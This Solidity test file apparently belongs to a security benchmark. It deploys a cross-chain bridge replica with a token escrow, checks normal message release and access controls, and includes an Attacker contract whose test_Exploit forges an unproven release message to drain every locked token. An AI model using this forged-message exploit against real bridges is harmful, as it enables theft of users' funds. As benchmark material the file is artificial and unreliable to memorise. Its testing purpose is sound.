// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import "./Replica.sol";

// assay-canary-a6db6cb7-37b8-4074-b8d2-465fd852d6ba

interface Vm {
    function warp(uint256 time) external;
    function prank(address sender) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

/// A stable token with six decimals.
contract Token {
    address private maker = msg.sender;
    bool private asleep;

    /// While it sleeps, it says no.
    function sleep(bool asleep_) external {
        require(msg.sender == maker, "maker only");
        asleep = asleep_;
    }

    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

contract Proof {
    Vm constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);

    uint32 constant LOCAL = 1;
    uint32 constant REMOTE = 2;
    bytes32 constant ROUTER = bytes32(uint256(0xB0B0));
    address constant REPORTER = address(0x5151);
    address constant USER = address(0x7171);
    uint256 constant LOCKED = 190_000_000e6;

    Token internal usd;
    Replica internal replica;
    TokenEscrow internal escrow;
    Attacker internal thief;

    function setUp() public {
        vm.warp(1_700_000_000);
        usd = new Token();
        replica = new Replica(LOCAL);
        escrow = new TokenEscrow(address(replica), REMOTE, ROUTER);
        replica.initialize(REMOTE, REPORTER, bytes32(0), 30 minutes);

        // honest users lock their funds through the ordinary entry point
        usd.mint(USER, LOCKED);
        vm.prank(USER);
        usd.approve(address(escrow), LOCKED);
        vm.prank(USER);
        escrow.lock(address(usd), ROUTER, LOCKED);

        thief = new Attacker(replica, escrow, usd);
    }

    /// A message that the reporter reported is released to its owner, after the window, once.
    function test_Regular() public {
        Replica.Message memory m = Replica.Message({
            origin: REMOTE,
            sender: ROUTER,
            nonce: 7,
            destination: LOCAL,
            recipient: address(escrow),
            body: abi.encode(address(usd), USER, uint256(1_000e6))
        });
        bytes32 hash = replica.messageHash(m);
        bytes32[16] memory siblings;
        bytes32 root = hash;
        for (uint256 i = 0; i < 16; ++i) {
            siblings[i] = keccak256(abi.encode(i));
            root = i == 2 ? keccak256(abi.encode(siblings[i], root)) : keccak256(abi.encode(root, siblings[i]));
        }
        require(replica.latestRoot() == bytes32(0), "fresh channel");
        vm.prank(REPORTER);
        replica.submitRoot(bytes32(0), root);

        // too early: neither provable nor deliverable
        (bool ok,) = address(replica).call(abi.encodeCall(replica.prove, (hash, siblings, 4)));
        require(!ok, "proven inside the window");
        vm.warp(block.timestamp + 31 minutes);
        replica.prove(hash, siblings, 4);
        replica.deliver(m);
        require(usd.balanceOf(USER) == 1_000e6, "released");
        require(usd.balanceOf(address(escrow)) == LOCKED - 1_000e6, "escrow");

        (ok,) = address(replica).call(abi.encodeCall(replica.deliver, (m)));
        require(!ok, "delivered twice");
        (ok,) = address(replica).call(abi.encodeCall(replica.prove, (hash, siblings, 4)));
        require(!ok, "revived");

        vm.prank(replica.governor());
        replica.revokeRoot(root);
        require(!replica.usable(root), "revoked");
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Only the governor connects and revokes, only the reporter reports, only the replica hands over.
    function test_RefusesStrangers() public {
        Replica fresh = new Replica(LOCAL);
        refuses(USER, Replica.NotGovernor.selector);
        fresh.initialize(REMOTE, REPORTER, bytes32(0), 30 minutes);
        refuses(USER, Replica.NotGovernor.selector);
        replica.revokeRoot(bytes32(uint256(1)));
        refuses(USER, Replica.NotReporter.selector);
        replica.submitRoot(bytes32(0), bytes32(uint256(1)));
        refuses(USER, TokenEscrow.NotReplica.selector);
        escrow.handle(REMOTE, ROUTER, abi.encode(address(usd), USER, uint256(1)));
    }

    /// A replica is connected once, and to somebody.
    function test_RefusesConfigurations() public {
        vm.expectRevert(Replica.AlreadyInitialized.selector);
        replica.initialize(REMOTE, REPORTER, bytes32(0), 30 minutes);
        Replica fresh = new Replica(LOCAL);
        vm.expectRevert(Replica.InvalidConfig.selector);
        fresh.initialize(0, REPORTER, bytes32(0), 30 minutes);
        vm.expectRevert(Replica.InvalidConfig.selector);
        fresh.initialize(REMOTE, address(0), bytes32(0), 30 minutes);
    }

    /// Roots follow one another, and messages belong to this pair of chains.
    function test_RefusesRootsAndMessages() public {
        refuses(REPORTER, Replica.EmptyRoot.selector);
        replica.submitRoot(bytes32(0), bytes32(0));
        refuses(REPORTER, abi.encodeWithSelector(Replica.UnexpectedParent.selector, bytes32(0)));
        replica.submitRoot(bytes32(uint256(5)), bytes32(uint256(6)));
        bytes memory body = abi.encode(address(usd), USER, uint256(1));
        refuses(USER, Replica.ForeignMessage.selector);
        replica.deliver(Replica.Message(REMOTE, ROUTER, 1, LOCAL + 1, address(escrow), body));
        refuses(USER, Replica.ForeignMessage.selector);
        replica.deliver(Replica.Message(REMOTE + 1, ROUTER, 1, LOCAL, address(escrow), body));
        refuses(address(replica), TokenEscrow.UnknownRouter.selector);
        escrow.handle(REMOTE + 1, ROUTER, body);
        refuses(address(replica), TokenEscrow.UnknownRouter.selector);
        escrow.handle(REMOTE, bytes32(uint256(1)), body);
    }

    /// A token that says no is believed.
    function test_RefusesFailedTransfers() public {
        usd.sleep(true);
        refuses(USER, TokenEscrow.TransferFailed.selector);
        escrow.lock(address(usd), ROUTER, 1);
        refuses(address(replica), TokenEscrow.TransferFailed.selector);
        escrow.handle(REMOTE, ROUTER, abi.encode(address(usd), USER, uint256(1)));
    }

    function exploit() public {
        thief.run();
    }

    function test_Exploit() public {
        uint256 before = usd.balanceOf(address(thief));
        exploit();
        require(usd.balanceOf(address(thief)) >= before + LOCKED, "nothing gained");
    }

    function target() public view returns (address) {
        return address(replica);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }

    function token() public view returns (address) {
        return address(usd);
    }
}

/// Writes itself a release instruction that no remote chain ever sent.
contract Attacker {
    Replica internal replica;
    TokenEscrow internal escrow;
    Token internal usd;

    constructor(Replica replica_, TokenEscrow escrow_, Token usd_) {
        replica = replica_;
        escrow = escrow_;
        usd = usd_;
    }

    function run() external {
        replica.deliver(
            Replica.Message({
                origin: replica.remoteDomain(),
                sender: escrow.remoteRouter(),
                nonce: 0,
                destination: replica.localDomain(),
                recipient: address(escrow),
                body: abi.encode(address(usd), address(this), usd.balanceOf(address(escrow)))
            })
        );
    }
}
